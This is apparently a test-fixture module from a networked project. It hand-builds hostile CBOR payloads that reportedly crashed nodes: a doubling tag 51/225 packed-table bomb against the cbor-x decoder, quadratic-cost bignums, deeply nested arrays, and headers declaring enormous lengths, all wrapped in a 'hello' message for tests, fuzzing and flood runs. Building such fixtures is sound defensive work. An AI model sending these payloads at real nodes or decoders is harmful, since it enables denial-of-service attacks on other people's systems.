// Hand-built hostile CBOR: the shapes that took nodes down (issue 16) and their relatives. Bytes are
// written out by hand, not by an encoder, so each is exactly the attack.

/** A CBOR head: major type and argument, shortest form. */
export function head(major: number, arg: number): Buffer {
  const m = major << 5;
  if (arg < 24) return Buffer.from([m | arg]);
  if (arg < 0x100) return Buffer.from([m | 24, arg]);
  if (arg < 0x10000) return Buffer.from([m | 25, arg >> 8, arg & 0xff]);
  if (arg < 0x100000000) {
    const b = Buffer.alloc(5);
    b[0] = m | 26;
    b.writeUInt32BE(arg, 1);
    return b;
  }
  const b = Buffer.alloc(9);
  b[0] = m | 27;
  b.writeBigUInt64BE(BigInt(arg), 1);
  return b;
}

const tag = (n: number) => head(6, n);

/**
 * cbor-x's packed-value tables (tag 51) with prefix tags (225): each level's table holds
 * 225(225([])) evaluated against the previous level's prefix, so the prefix doubles per level.
 * 26 levels are about 700 bytes and ask for an array of 2^26 elements; 30 levels ask for 2^30.
 */
export function packedTableBomb(levels: number): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < levels; i++) {
    parts.push(tag(51), head(4, 4));
    // values: 16 fillers, then the doubled prefix (the first level has no prefix yet: [0]).
    parts.push(head(4, 17), Buffer.alloc(16, 0x00));
    parts.push(i === 0 ? Buffer.from([0x81, 0x00]) : Buffer.concat([tag(225), tag(225), head(4, 0)]));
    parts.push(head(4, 2), Buffer.from([0x00]), tag(6), Buffer.from([0x00])); // prefixes: [0, 6(0)]
    parts.push(head(4, 0)); // suffixes: []
  }
  parts.push(tag(225), head(4, 0)); // the rump: the last prefix, concatenated with []
  return Buffer.concat(parts);
}

/** A bignum (tag 2) of `bytes` bytes; cbor-x builds it one byte at a time (quadratic). */
export function bignum(bytes: number, negative = false): Buffer {
  return Buffer.concat([tag(negative ? 3 : 2), head(2, bytes), Buffer.alloc(bytes, 0xa5)]);
}

/** A map { t: 'hello', nonce: <value> } whose nonce is `value` (raw CBOR). */
export function helloWith(value: Buffer): Buffer {
  return Buffer.concat([head(5, 2), head(3, 1), Buffer.from('t'), head(3, 5), Buffer.from('hello'), head(3, 5), Buffer.from('nonce'), value]);
}

/** `depth` nested one-element arrays around 0. */
export function deepArrays(depth: number, indefinite = false): Buffer {
  const open = indefinite ? Buffer.alloc(depth, 0x9f) : Buffer.alloc(depth, 0x81);
  return Buffer.concat([open, Buffer.from([0x00]), indefinite ? Buffer.alloc(depth, 0xff) : Buffer.alloc(0)]);
}

/** An array, map or string that declares `count` elements and carries only a few bytes. */
export function hugeDeclared(major: 2 | 3 | 4 | 5, count: number): Buffer {
  return Buffer.concat([head(major, count), Buffer.alloc(8, 0x00)]);
}

/** An indefinite-length map { "a": 0 } (our own messages have none). */
export function indefiniteMap(): Buffer {
  return Buffer.from([0xbf, 0x61, 0x61, 0x00, 0xff]);
}

/** Every hostile shape, named, for tests, the fuzzer's seeds and the network flood. */
export function hostileShapes(): Array<{ name: string; bytes: Buffer }> {
  return [
    { name: 'tag51/225 bomb (26 levels)', bytes: helloWith(packedTableBomb(26)) },
    { name: 'bignum 24 KiB', bytes: helloWith(bignum(24 * 1024)) },
    { name: 'negative bignum 24 KiB', bytes: helloWith(bignum(24 * 1024, true)) },
    { name: 'deep arrays (10,000)', bytes: helloWith(deepArrays(10_000)) },
    { name: 'deep indefinite arrays (10,000)', bytes: helloWith(deepArrays(10_000, true)) },
    { name: 'array declaring 2^32-1 items', bytes: helloWith(hugeDeclared(4, 0xffffffff)) },
    { name: 'map declaring 2^40 pairs', bytes: helloWith(hugeDeclared(5, 2 ** 40)) },
    { name: 'byte string declaring 2^31 bytes', bytes: helloWith(hugeDeclared(2, 2 ** 31)) },
    { name: 'text string declaring 2^53 bytes', bytes: helloWith(hugeDeclared(3, 2 ** 53)) },
    { name: 'indefinite map', bytes: helloWith(indefiniteMap()) },
    { name: 'shared-reference tags 28/29', bytes: helloWith(Buffer.concat([tag(28), head(4, 1), tag(29), head(0, 0)])) },
    { name: 'record tag 105', bytes: helloWith(Buffer.concat([tag(105), head(4, 0)])) },
    { name: 'typed array tag 64', bytes: helloWith(Buffer.concat([tag(64), head(2, 4), Buffer.alloc(4)])) },
    { name: 'Set tag 258', bytes: helloWith(Buffer.concat([tag(258), head(4, 0)])) },
    { name: 'Error tag 27', bytes: helloWith(Buffer.concat([tag(27), head(4, 2), head(3, 5), Buffer.from('Error'), head(3, 1), Buffer.from('x')])) },
  ];
}
